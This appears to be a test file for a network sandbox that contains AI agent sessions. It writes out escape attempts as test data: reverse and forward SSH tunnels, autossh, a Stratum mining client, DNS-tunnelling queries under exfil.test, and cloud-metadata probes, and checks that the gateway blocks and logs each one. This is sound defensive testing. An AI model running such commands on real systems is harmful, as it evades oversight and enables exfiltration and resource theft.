"""The attacks of the ROME incident, tried from inside real sessions against the lab.

Every "refused" claim is measured at the far end: the real sshd's log, the pool's byte
recording, the lab firewall's per-host counters. Each test also runs a positive control
where it matters, so a broken lab cannot make a test pass.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable

import pytest

from bastion import Session
from bastion.events import Event, EventKind
from bastion.gateway.plumbing import GATEWAY_IP
from bastion.lab import Lab
from bastion.lab.topology import host

from .conftest import LAB_POLICY, lab_trust

SSH_IP = host("ssh").ip
POOL_IP = host("pool").ip
DENIED_IP = host("denied").ip


def events(session: Session, kind: EventKind, wait: float = 0.0,
           predicate: Callable[[Event], bool] = lambda e: True) -> list[Event]:
    deadline = time.monotonic() + wait
    while True:
        found = [e for e in list(session.events) if e.kind is kind and predicate(e)]
        if found or time.monotonic() >= deadline:
            return found
        time.sleep(0.05)


@pytest.fixture
def lab_session(lab: Lab, make_session: Callable[..., Session]) -> Session:
    session = make_session(LAB_POLICY, lab=True)
    session.write_file("/workspace/ca.pem", lab_trust(lab))
    return session


def test_https_allowed_works_and_is_reported(lab_session: Session) -> None:
    r = lab_session.exec("curl -sS -m 5 --cacert /workspace/ca.pem https://allowed.lab.test/",
                         step=3, call_id="c3")
    assert r.exit_code == 0, r.stderr
    assert r.stdout == "hello from allowed.lab.test\n"
    connects = events(lab_session, EventKind.NET_CONNECT)
    assert len(connects) == 1
    event = connects[0]
    assert event.session_id == lab_session.session_id
    assert event.get("net.app") == "tls" and event.get("net.sni") == "allowed.lab.test"
    assert event.get("net.decision") == "allow" and event.get("net.rule") == "allow[agent][0]"
    closes = events(lab_session, EventKind.NET_CLOSE, wait=3)
    # inspected (LAB_POLICY): the bytes counted are the plaintext's, head and body
    assert event.get("net.tls_inspect") is True
    assert closes and closes[0].get("net.bytes_in") > len(r.stdout)
    assert closes[0].get("net.conn_id") == event.get("net.conn_id")


def test_https_denied_fails_fast_with_a_clear_error(lab: Lab, lab_session: Session) -> None:
    before = lab.counters()["denied"]
    # the agent edits name resolution itself (as /etc/hosts would): the gateway still
    # sees the SNI, and nothing reaches the denied host
    r = lab_session.exec(
        "s=$(date +%s%N); curl -sS -m 5 --cacert /workspace/ca.pem "
        "--resolve denied.lab.test:443:203.0.113.81 https://denied.lab.test/; rc=$?; "
        "e=$(date +%s%N); echo rc=$rc ms=$(( (e - s) / 1000000 ))")
    assert "rc=35" in r.stdout or "rc=56" in r.stdout, r.stdout + r.stderr
    assert "reset" in r.stderr.lower(), r.stderr
    elapsed = int(r.stdout.split("ms=")[1])
    # refused at once, not after a peek window or a timeout (latency is a benchmark figure)
    assert elapsed < 2000, f"denied connection took {elapsed} ms to fail"
    denied = events(lab_session, EventKind.NET_CONNECT)
    assert denied[-1].get("net.decision") == "deny"
    assert denied[-1].get("net.rule") == "gateway.default_deny"
    assert denied[-1].get("net.sni") == "denied.lab.test"
    assert lab.counters()["denied"] == before


def test_plain_http_denied_gets_403_with_reason(lab: Lab, lab_session: Session) -> None:
    r = lab_session.exec(f"curl -sS -m 5 -D - -o /dev/null http://{DENIED_IP}/")
    assert r.stdout.startswith("HTTP/1.1 403"), r.stdout
    assert "X-Bastion-Rule: gateway.default_deny" in r.stdout
    assert "X-Bastion-Reason:" in r.stdout
    assert not any("denied.lab.test" in line for line in lab.web_log())


def test_sni_spoofing_reaches_only_the_named_host(lab: Lab, lab_session: Session) -> None:
    """TLS to the pool's address with an allowed SNI: the gateway dials the *name*."""
    pool_before = len(lab.pool_bytes())
    counted = lab.counters()["pool"]
    r = lab_session.exec(
        f"curl -sS -m 5 --cacert /workspace/ca.pem --resolve allowed.lab.test:443:{POOL_IP} "
        "https://allowed.lab.test/")
    assert r.stdout == "hello from allowed.lab.test\n", r.stderr
    assert len(lab.pool_bytes()) == pool_before
    assert lab.counters()["pool"] == counted


def test_denied_dns_is_nxdomain_and_logged(lab: Lab, lab_session: Session) -> None:
    r = lab_session.exec("getent hosts denied.lab.test; echo rc=$?; "
                         "getent hosts allowed.lab.test")
    assert "rc=2" in r.stdout
    assert "203.0.113.80" in r.stdout
    queries = events(lab_session, EventKind.DNS_QUERY,
                     predicate=lambda e: e.get("dns.name") == "denied.lab.test")
    assert queries and all(q.get("dns.decision") == "deny" for q in queries)
    assert all(q.get("dns.rcode") == "NXDOMAIN" for q in queries)
    # a refused name is never even forwarded to the upstream server
    assert not any(line.startswith("denied.lab.test ") for line in lab.dns_log())
    assert any(line.startswith("allowed.lab.test ") for line in lab.dns_log())


def test_dns_tunnelling_is_scored(lab_session: Session) -> None:
    lab_session.exec("for i in $(seq 1 30); do getent hosts "
                     "$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \\n').$i.t.exfil.test "
                     ">/dev/null; done; true")
    scores = [e.get("dns.tunnel_score") for e in events(lab_session, EventKind.DNS_QUERY)]
    assert max(scores) >= 0.5


SSH_OPTS = ("-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes "
            "-o ConnectTimeout=3 -i /workspace/id")


@pytest.mark.parametrize("attack", [
    f"ssh {SSH_OPTS} -N -R 9000:localhost:22 root@{SSH_IP}",
    f"ssh {SSH_OPTS} -N -D 1080 root@{SSH_IP}",
    f"ssh {SSH_OPTS} -N -L 8080:localhost:80 root@{SSH_IP}",
    f"ssh {SSH_OPTS} -p 443 -N -R 9000:localhost:22 root@{SSH_IP}",
    f"ssh {SSH_OPTS} -N -R 9000:localhost:22 root@ssh.lab.test",
    (f"env AUTOSSH_GATETIME=0 AUTOSSH_MAXSTART=2 AUTOSSH_POLL=1 autossh -M 0 {SSH_OPTS} "
     f"-N -R 9000:localhost:22 root@{SSH_IP}"),
], ids=["ssh-R", "ssh-D", "ssh-L", "ssh-R-443", "ssh-R-by-name", "autossh"])
def test_reverse_and_forward_tunnels_never_reach_sshd(
        lab: Lab, lab_session: Session, attack: str) -> None:
    if attack.startswith("env AUTOSSH") and lab_session.exec("command -v autossh").exit_code:
        pytest.skip("autossh is not installed (apt-get install autossh)")
    lab_session.exec("ssh-keygen -q -t ed25519 -N '' -f /workspace/id")
    logged = lab.sshd_connections()
    counted = lab.counters()["ssh"]
    r = lab_session.exec(f"timeout 8 {attack}; echo rc=$?")
    assert lab.sshd_connections() == logged
    assert lab.counters()["ssh"] == counted
    # an ssh client that forwards is stopped as it starts (tunnels.ssh_forward_exec, a
    # detector: it acts without the packs); the gateway refuses whatever got that far
    if any(v.rule_id == "tunnels.ssh_forward_exec" for v in r.verdicts):
        assert r.outcome.value == "killed"
        return
    if not attack.startswith("env AUTOSSH"):  # autossh exits 0 once it gives up
        assert "rc=0" not in r.stdout
    assert "Connection reset" in r.stderr or "resolve" in r.stderr, r.stderr
    if "ssh.lab.test" in attack:
        assert events(lab_session, EventKind.DNS_QUERY,
                      predicate=lambda e: e.get("dns.name") == "ssh.lab.test")
    else:
        refused = events(lab_session, EventKind.NET_CONNECT)
        assert refused and all(e.get("net.decision") == "deny" for e in refused)
        assert refused[0].get("net.app") == "ssh"
        assert refused[0].get("net.ssh_banner", "").startswith("SSH-2.0-OpenSSH")


def test_ssh_positive_control_reaches_sshd(lab: Lab, make_session: Callable[..., Session]) -> None:
    """With an explicit allow entry the same client does reach the real sshd: the
    zero-connection results above are the gateway's doing, not a broken lab."""
    policy = {"name": "ssh-allowed", "network": {"phases": {"agent": {"allow": [
        {"cidr": f"{SSH_IP}/32", "port": 22, "protocol": "ssh"}]}}}}
    session = make_session(policy, lab=True)
    logged = lab.sshd_connections()
    r = session.exec(f"timeout 8 ssh {SSH_OPTS.replace('-i /workspace/id', '')} "
                     f"root@{SSH_IP} true; echo rc=$?")
    assert "Permission denied" in r.stderr, r.stderr
    assert lab.sshd_connections() > logged


STRATUM_CLIENT = r"""
import json, socket, ssl, sys
host, port, wrap = sys.argv[1], int(sys.argv[2]), sys.argv[3]
msg = json.dumps({"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]})
try:
    s = socket.create_connection((host, port), timeout=3)
    if wrap != "plain":
        ctx = ssl.create_default_context(); ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        s = ctx.wrap_socket(s, server_hostname=wrap)
    s.sendall(msg.encode() + b"\n")
    print("reply", s.recv(4096))
except OSError as exc:
    print("refused", type(exc).__name__, exc)
"""


@pytest.mark.parametrize("target", [
    (POOL_IP, 3333, "plain"),
    (POOL_IP, 443, "plain"),
    (POOL_IP, 3334, "pool.lab.test"),
    (POOL_IP, 443, "pool.lab.test"),
    ("pool.lab.test", 3333, "plain"),
], ids=["3333", "443", "tls-3334", "tls-443", "by-name"])
def test_stratum_never_reaches_the_pool(lab: Lab, lab_session: Session,
                                        target: tuple[str, int, str]) -> None:
    before = len(lab.pool_bytes())
    counted = lab.counters()["pool"]
    lab_session.write_file("/workspace/miner.py", STRATUM_CLIENT)
    r = lab_session.exec(["python3", "/workspace/miner.py", target[0], str(target[1]),
                          target[2]])
    assert "reply" not in r.stdout, r.stdout
    assert len(lab.pool_bytes()) == before
    assert lab.counters()["pool"] == counted


def test_stratum_is_refused_even_where_the_address_is_allowed(
        lab: Lab, make_session: Callable[..., Session]) -> None:
    policy = {"name": "pool-allowed", "rules": {"packs": []},
              "network": {"phases": {"agent": {"allow": [{"cidr": f"{POOL_IP}/32"}]}}}}
    session = make_session(policy, lab=True)
    session.write_file("/workspace/miner.py", STRATUM_CLIENT)
    before = len(lab.pool_bytes())
    r = session.exec(["python3", "/workspace/miner.py", POOL_IP, "3333", "plain"])
    assert "refused" in r.stdout
    event = events(session, EventKind.NET_CONNECT)[0]
    assert event.get("net.app") == "stratum"
    assert event.get("net.stratum_method") == "mining.subscribe"
    assert event.get("net.rule") == "gateway.miner_protocol"
    assert len(lab.pool_bytes()) == before


def test_pool_positive_control_records_bytes(lab: Lab) -> None:
    """The pool does record what reaches it (checked from inside the lab namespace)."""
    from bastion.gateway.netns import inside

    with inside(lab.netns_path):
        probe = socket.socket()
    try:
        probe.settimeout(3)
        probe.connect((POOL_IP, 3334 - 1))
        probe.sendall(b'{"id":9,"method":"mining.authorize","params":["probe","x"]}\n')
        assert b'"id": 9' in probe.recv(4096)
    finally:
        probe.close()
    assert b"probe" in lab.pool_bytes()


def test_metadata_host_and_gateway_addresses_unreachable(lab_session: Session) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    accepted: list[object] = []

    def watch() -> None:
        deadline = time.monotonic() + 6
        while time.monotonic() < deadline:
            try:
                accepted.append(listener.accept())
            except OSError:
                continue

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        r = lab_session.exec(
            f"for t in 169.254.169.254:80 127.0.0.1:{port} {GATEWAY_IP}:{port} {GATEWAY_IP}:22 10.0.0.1:80 "
            "100.100.100.200:80; do curl -sSf -m 2 -o /dev/null http://$t/ 2>&1 | head -c 60;"
            " echo \" $t rc=${PIPESTATUS[0]}\"; done")
    finally:
        watcher.join()
        listener.close()
    assert accepted == []
    lines = [line for line in r.stdout.splitlines() if "rc=" in line]
    assert len(lines) == 6 and all("rc=0" not in line for line in lines), r.stdout
    rules = {e.get("net.dst_ip"): e.get("net.rule") for e in events(
        lab_session, EventKind.NET_CONNECT)}
    assert rules["169.254.169.254"] == "gateway.metadata"
    assert rules[GATEWAY_IP] == "gateway.host_address"
    assert rules["10.0.0.1"] == "gateway.private"
    assert "127.0.0.1" not in rules  # the sandbox's own loopback, not the host's


def test_ipv6_udp_icmp_and_raw_sockets(lab: Lab, lab_session: Session) -> None:
    script = r"""
import socket
def attempt(name, fn):
    try:
        fn(); print(name, "OPEN")
    except OSError as exc:
        print(name, "blocked", exc.errno)
def v6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(2)
    s.connect(("2001:db8::1", 443))
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    for _ in range(3): s.sendto(b"x" * 100, ("203.0.113.33", 3333))
    s.recv(10)
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
attempt("ipv6", v6); attempt("udp", udp); attempt("raw", raw); attempt("packet", packet)
"""
    counted = lab.counters()["pool"]
    lab_session.write_file("/workspace/probe.py", script)
    r = lab_session.exec(["python3", "/workspace/probe.py"])
    assert "OPEN" not in r.stdout, r.stdout
    assert r.stdout.count("blocked") == 4, r.stdout + r.stderr
    ping = lab_session.exec(f"ping -c 1 -W 1 {POOL_IP}")
    assert ping.exit_code != 0
    drops = events(lab_session, EventKind.NET_DROP, wait=5,
                   predicate=lambda e: e.get("net.proto") == "udp")
    by_counter = [d for d in drops if d.get("net.packets")]
    named = [d for d in drops if d.get("net.dst_ip") == POOL_IP]
    assert by_counter and by_counter[0].get("net.packets") >= 1  # sendto: EPERM at once
    # and each drop names where the probe went
    assert named and named[0].get("net.dst_port") == 3333
    assert all(d.session_id == lab_session.session_id for d in drops)
    assert lab.counters()["pool"] == counted


def test_phase_switch_takes_effect(lab: Lab, make_session: Callable[..., Session]) -> None:
    policy = {**LAB_POLICY, "network": {**LAB_POLICY["network"], "initial_phase": "setup"}}
    session = make_session(policy, lab=True)
    assert session.exec("curl -sS -m 5 http://denied.lab.test/").stdout == (
        "hello from denied.lab.test\n")
    session.set_network_phase("agent")
    r = session.exec("curl -sS -m 5 http://denied.lab.test/; echo rc=$?")
    assert "rc=6" in r.stdout  # the name no longer resolves
    r = session.exec(f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}' http://{DENIED_IP}/")
    assert r.stdout == "403"


def test_every_emitted_field_is_catalogued(lab_session: Session) -> None:
    from bastion.events import FIELD_CATALOGUE

    lab_session.exec("curl -sS -m 3 --cacert /workspace/ca.pem https://allowed.lab.test/; "
                     "curl -sS -m 3 http://203.0.113.81/; getent hosts x.denied.lab.test; "
                     "python3 -c 'import socket; socket.socket(socket.AF_INET, "
                     "socket.SOCK_DGRAM).sendto(b\"x\", (\"203.0.113.9\", 9))'; true")
    events(lab_session, EventKind.NET_DROP, wait=5)
    events(lab_session, EventKind.NET_CLOSE, wait=3)
    known = FIELD_CATALOGUE
    kinds = set()
    for event in lab_session.events:
        if event.kind.value.startswith(("net.", "dns.")):
            kinds.add(event.kind)
            assert set(event.fields) <= set(known), set(event.fields) - set(known)
    assert kinds >= {EventKind.NET_CONNECT, EventKind.NET_CLOSE, EventKind.DNS_QUERY,
                     EventKind.NET_DROP}
